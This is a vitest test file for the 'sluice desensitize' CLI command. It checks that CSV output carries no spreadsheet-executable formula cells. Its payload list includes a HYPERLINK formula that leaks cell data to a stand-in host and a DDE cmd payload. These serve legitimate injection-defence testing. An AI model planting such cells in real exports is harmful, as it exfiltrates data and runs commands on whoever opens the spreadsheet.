import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';

/** Cells a partner could plant so that whoever opens the output in a spreadsheet runs them. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-1+1', '\t=1+1', '\r=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;

/** Every cell of an RFC 4180 CSV text, quotes resolved. */
function cells(text: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') (out.push(cell), (cell = ''));
    else if (c === '\r' && text[i + 1] === '\n') continue;
    else cell += c;
  }
  if (cell !== '') out.push(cell);
  return out;
}

// Output keeps the input's format: CSV in, CSV out, the one place Sluice writes CSV.
describe('sluice desensitize writes no CSV cell a spreadsheet would run', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-csv-injection-'));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
  const quote = (v: string) => `"${v.replaceAll('"', '""')}"`;

  it.each([1, 2])('with %i thread(s)', async (threads) => {
    const rows = Array.from({ length: 3000 }, (_, i) => ({ note: PAYLOADS[i % PAYLOADS.length]!, city: PAYLOADS[(i + 1) % PAYLOADS.length]!, amount: i % 2 ? -i : i }));
    fs.writeFileSync(path.join(dir, 'in.csv'), ['note,city,amount', ...rows.map((r) => `${quote(r.note)},${quote(r.city)},${r.amount}`)].join('\r\n') + '\r\n');
    fs.writeFileSync(path.join(dir, 'policy.json'), JSON.stringify({ fields: { note: { transform: 'keep' }, city: { transform: 'truncate', length: 40 }, amount: { transform: 'keep' } } }));
    fs.writeFileSync(path.join(dir, 'key.json'), JSON.stringify({ secret: 'c3'.repeat(32) }));
    const out = path.join(dir, `out-${threads}.csv`);
    const run = await runCli(['desensitize', '--policy', path.join(dir, 'policy.json'), '--key-file', path.join(dir, 'key.json'), '--in', path.join(dir, 'in.csv'), '--out', out, '--threads', String(threads)]);
    expect(run.code, run.stderr).toBe(0);
    const written = cells(fs.readFileSync(out, 'utf8'));
    expect(written.length).toBe(3 * 3001);
    const dangerous = written.filter((cell) => FORMULA_START.test(cell) && !/^-?\d+$/.test(cell));
    expect(dangerous).toEqual([]);
    // Nothing is lost: each neutralized cell is the original behind one apostrophe.
    expect(written).toContain(`'${PAYLOADS[0]}`);
    expect(written).toContain('-3');
  });
});
